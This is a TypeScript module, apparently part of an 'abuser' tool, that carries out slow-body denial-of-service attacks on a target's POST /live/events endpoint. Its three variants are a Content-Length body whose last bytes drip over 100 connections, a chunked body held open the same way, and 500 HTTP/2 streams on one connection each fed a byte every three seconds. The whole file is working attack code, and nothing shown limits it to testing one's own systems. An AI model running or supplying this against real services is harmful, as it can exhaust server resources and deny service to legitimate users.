import { connect, type ClientHttp2Stream } from "node:http2";
import { write, type Abuser } from "../abuser.ts";
import { requestHead } from "../http.ts";

const BODY_BYTES = 1024 * 1024 - 1;
const STREAMS = 500;
const MISSING = 100;
const body = Buffer.alloc(BODY_BYTES - MISSING, "x");

/** A body of known length whose end drips, on every connection. */
export function withLength(abuser: Abuser): Promise<void> {
  const headers = { "Content-Length": String(BODY_BYTES) };
  return abuser.crowd(100, async () => {
    const socket = await abuser.connect();
    socket.resume();
    await write(socket, requestHead(abuser, "POST /live/events", headers));
    await write(socket, body);
    await abuser.hold(socket, "x");
  });
}

/** The same in chunks, so that no length is known. */
export function chunked(abuser: Abuser): Promise<void> {
  const headers = { "Transfer-Encoding": "chunked" };
  const chunk = `${(64 * 1024).toString(16)}\r\n${"x".repeat(64 * 1024)}\r\n`;
  return abuser.crowd(100, async () => {
    const socket = await abuser.connect();
    socket.resume();
    await write(socket, requestHead(abuser, "POST /live/events", headers));
    for (let sent = 0; sent < 15; sent += 1) {
      await write(socket, chunk);
    }
    await abuser.hold(socket, "1\r\nx\r\n");
  });
}

/** The same over HTTP/2, all on one connection. */
export function overHttp2(abuser: Abuser): Promise<void> {
  return abuser.crowd(1, async () => {
    const socket = await abuser.connect({ protocol: "h2" });
    const { host, port } = abuser.target;
    const session = connect(`https://${host}:${port}`, { createConnection: () => socket });
    session.on("error", () => {});
    for (let at = 0; at < STREAMS && !session.destroyed; at += 1) {
      const stream = session.request({ ":method": "POST", ":path": "/live/events" });
      stream.on("error", () => {});
      stream.resume();
      stream.write(body);
      drip(stream);
    }
    await abuser.hold(socket);
  });
}

function drip(stream: ClientHttp2Stream): void {
  const timer = setInterval(() => {
    if (!stream.destroyed && stream.writable) stream.write("x");
  }, 3_000);
  stream.once("close", () => clearInterval(timer));
}
